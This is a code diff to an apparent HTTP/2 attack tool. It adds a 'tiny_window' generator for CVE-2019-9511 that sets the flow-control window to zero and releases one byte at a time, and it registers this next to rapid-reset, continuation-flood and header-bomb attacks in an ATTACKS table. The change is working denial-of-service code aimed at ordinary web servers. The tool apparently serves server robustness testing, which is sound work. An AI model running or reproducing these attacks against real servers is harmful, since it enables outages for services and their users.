@@ -43,6 +43,7 @@ class Connection:
         self.resets = collections.Counter()
         self.is_closed = False
         self.has_answer = False
+        self.data_frames = 0
         self.has_settings = False
         self.next_stream = 1
         self.is_made_to_reset = False  # then it waits for the resets, lest there be too many streams at once
@@ -98,6 +99,7 @@ class Connection:
 
     def on_frame(self, frame):
         self.has_answer = self.has_answer or "END_STREAM" in frame.flags
+        self.data_frames += isinstance(frame, DataFrame)
         if isinstance(frame, GoAwayFrame):
             self.goaway = name_of(frame.error_code)
         elif isinstance(frame, RstStreamFrame):
@@ -192,6 +194,18 @@ def late_data(connection):
         yield DataFrame(stream, b"late").serialize()
 
 
+def tiny_window(connection):
+    """CVE-2019-9511: a response that leaves byte by byte, each in a frame of its own."""
+    stream = connection.new_stream()
+    yield (SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize()
+           + connection.headers(stream, [*REQUEST[:3], (":path", "/large")]))
+    while True:
+        had = connection.data_frames
+        yield WindowUpdateFrame(stream, 1).serialize()
+        while connection.data_frames == had and connection.goaway is None and connection.read(LIMIT_S):
+            continue
+
+
 def continuation(connection):
     """CVE-2024-28182 and its like: a head that never ends."""
     block = connection.encoder.encode(REQUEST)
@@ -234,7 +248,8 @@ def too_many_streams(connection):
 
 ATTACKS = {attack.__name__.replace("_", "-"): attack for attack in (
     rapid_reset, made_you_reset_by_window, made_you_reset_by_length, made_you_reset_by_field, settings, ping,
-    empty_data, window_update, priority, priority_update, unknown_frames, late_data, continuation, empty_continuation, header_bomb, cookie_crumbs,
+    empty_data, window_update, priority, priority_update, unknown_frames, late_data, tiny_window,
+    continuation, empty_continuation, header_bomb, cookie_crumbs,
     too_many_streams)}
 
 
